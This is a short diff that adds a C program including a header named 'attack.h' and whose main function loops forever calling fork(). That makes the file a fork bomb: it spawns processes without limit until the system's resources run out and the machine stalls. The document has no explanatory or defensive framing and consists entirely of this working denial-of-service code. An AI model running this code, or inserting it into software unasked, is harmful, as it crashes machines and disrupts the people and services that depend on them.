@@ -1,0 +1,4 @@
+#include "attack.h"
+int main(void) {
+    for (;;) fork();
+}
